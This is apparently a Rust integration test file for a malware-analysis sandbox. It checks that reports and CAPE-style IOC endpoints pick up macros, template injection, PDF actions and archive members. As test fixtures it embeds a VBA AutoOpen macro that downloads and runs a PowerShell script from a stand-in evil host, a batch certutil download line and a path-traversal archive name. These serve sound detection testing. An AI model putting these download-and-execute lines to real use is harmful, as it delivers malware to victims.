//! Documents and archives through the whole server: a macro document's VBA, template injection and
//! indicators reach the report (`static.office`, `iocs`) and CAPE's `tasks/get/iocs`.

use crate::harness::Server;

#[path = "../../../nestbox-analyzers/tests/docbuild/mod.rs"]
mod docbuild;

#[test]
fn macro_document_report_and_cape_iocs() {
    let s = Server::start("[analysis]\nworkers = 1\n");
    let code = "Sub AutoOpen()\r\n  Shell \"powershell -c iwr http://drop.evil.example.com/x.ps1 | iex\"\r\nEnd Sub\r\n";
    let doc = docbuild::docm(&[("Module1", code)], "http://tpl.evil.example.net/t.dotm");
    let id = s.submit_file("invoice.docm", &doc);
    s.wait_status(id, "reported");
    let rep = s.get(&format!("/tasks/report/{id}")).json();
    let office = &rep["static"]["office"];
    assert_eq!(office["Metadata"]["HasMacros"], "Yes", "{office}");
    assert_eq!(
        office["Macro"]["Code"]["Macro1"][0][1],
        code.trim_end().replace("\r\n", "\n")
    );
    assert_eq!(office["Macro"]["Analysis"]["AutoExec"][0][0], "AutoOpen");
    assert_eq!(
        office["ExternalRelationships"][0]["target"],
        "http://tpl.evil.example.net/t.dotm"
    );
    let domains = rep["iocs"]["domains"].as_array().unwrap();
    for d in ["drop.evil.example.com", "tpl.evil.example.net"] {
        assert!(domains.iter().any(|x| x == d), "{d} in {domains:?}");
    }

    let r = s.get(&format!("/apiv2/tasks/get/iocs/{id}/")).json();
    let data = &r["data"];
    assert_eq!(data["static"]["office"]["macros"], 1);
    assert_eq!(
        data["static"]["office"]["signatures"]["AutoExec"][0][0],
        "AutoOpen"
    );
    assert!(
        data["iocs"]["urls"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u == "http://drop.evil.example.com/x.ps1")
    );
}

#[test]
fn pdf_report_has_pdfid_counts() {
    let s = Server::start("[analysis]\nworkers = 1\n");
    let pdf = docbuild::pdf_with_js("app.alert(1)", "http://u.example.org/a");
    let id = s.submit_file("a.pdf", &pdf);
    s.wait_status(id, "reported");
    let rep = s.get(&format!("/tasks/report/{id}")).json();
    assert_eq!(rep["static"]["pdf"]["Keywords"]["/OpenAction"], 1);
    assert_eq!(
        rep["static"]["pdf"]["Annot_URLs"][0],
        "http://u.example.org/a"
    );
    let r = s.get(&format!("/apiv2/tasks/get/iocs/{id}/")).json();
    assert_eq!(r["data"]["static"]["pdf"]["header"], "%PDF-1.7");
    assert_eq!(r["data"]["static"]["pdf"]["pages"], 1);
}

/// tasks/create/submit on an AES-encrypted zip (password from the options) holding a
/// script, a PDF and a nested gzip: one `archive` task per runnable member, each with the
/// member as its target and its own static report; names that climb are neutralised.
#[test]
fn archive_members_become_tasks_with_their_own_reports() {
    use crate::harness::Part;
    use std::io::Write;
    let s = Server::start("[analysis]\nworkers = 1\n");
    let pdf = docbuild::pdf_with_js("app.alert(1)", "http://member.example.org/a");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(b"@echo off\r\ncertutil -urlcache -f http://gz.evil.example.com/a.exe a.exe\r\n")
        .unwrap();
    let gz = gz.finish().unwrap();
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default()
        .with_aes_encryption(zip::AesMode::Aes256, "s3cret");
    for (name, data) in [
        ("../../docs/report.pdf", &pdf[..]),
        ("run.bat.gz", &gz[..]),
        ("readme.txt", &b"not runnable"[..]),
    ] {
        w.start_file(name, o).unwrap();
        w.write_all(data).unwrap();
    }
    let zip = w.finish().unwrap().into_inner();
    let r = s.post_multipart(
        "/tasks/create/submit",
        &[
            Part::File("files", "bundle.zip", &zip),
            Part::Field("options", "password=s3cret"),
        ],
    );
    let j = r.json();
    let ids: Vec<i64> = j["task_ids"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_i64().unwrap())
        .collect();
    assert_eq!(ids.len(), 2, "{j}");
    let mut seen = Vec::new();
    for id in ids {
        let t = s.get(&format!("/tasks/view/{id}")).json()["task"].clone();
        assert_eq!(t["category"], "archive");
        assert_eq!(t["submit_id"], j["submit_id"]);
        s.wait_status(id, "reported");
        let rep = s.get(&format!("/tasks/report/{id}")).json();
        let target = &rep["target"];
        assert_eq!(target["category"], "archive");
        assert_eq!(target["archive"]["name"], "bundle.zip");
        let member = target["filename"].as_str().unwrap().to_owned();
        assert!(!member.contains(".."), "{member}");
        assert_eq!(target["human"], format!("{member} @ bundle.zip"));
        if member == "docs/report.pdf" {
            assert_eq!(target["file"]["name"], "report.pdf");
            assert_eq!(rep["static"]["pdf"]["Keywords"]["/OpenAction"], 1);
            assert_eq!(target["file"]["size"], pdf.len());
        } else {
            assert_eq!(member, "run.bat.gz/run.bat");
            assert_eq!(rep["static"]["script"]["language"], "batch");
            assert!(
                rep["iocs"]["domains"]
                    .to_string()
                    .contains("gz.evil.example.com")
            );
        }
        // The archive listing rides along.
        let listed = rep["static"]["archive"]["members"].to_string();
        assert!(listed.contains("s3cret") && listed.contains("docs/report.pdf"));
        seen.push(member);
    }
    seen.sort();
    assert_eq!(seen, ["docs/report.pdf", "run.bat.gz/run.bat"]);
}

/// Damaged documents and archives still end in a report, with the damage in
/// `debug.errors` (or an archive's `errors`) rather than a failed task.
#[test]
fn damaged_inputs_end_in_reports_with_errors() {
    let s = Server::start("[analysis]\nworkers = 1\n");
    let doc = docbuild::word97_with_macros(&[("Module1", "Sub AutoOpen()\r\nEnd Sub\r\n")]);
    let pdf = docbuild::pdf_with_js("app.alert(1)", "http://u.example.org/a");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &b"payload ".repeat(5000)).unwrap();
    let gz = gz.finish().unwrap();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("cut.doc", doc[..700].to_vec()),
        ("cut.pdf", pdf[..pdf.len() / 3].to_vec()),
        ("cut.gz", gz[..gz.len() / 2].to_vec()),
        (
            "noheader.pdf",
            b"%PDF-1.7\n1 0 obj << /JS 9 0 R >>".to_vec(),
        ),
    ];
    for (name, data) in &cases {
        let id = s.submit_file(name, data);
        let t = s.wait_status(id, "reported");
        assert_eq!(t["status"], "reported", "{name}");
        let rep = s.get(&format!("/tasks/report/{id}")).json();
        let errors = rep["debug"]["errors"].as_array().unwrap().len()
            + rep["static"]["archive"]["errors"]
                .as_array()
                .map_or(0, Vec::len);
        if *name != "noheader.pdf" {
            assert!(errors > 0, "{name}: {}", rep["debug"]);
        }
        assert!(rep["iocs"].is_object(), "{name}");
    }
}
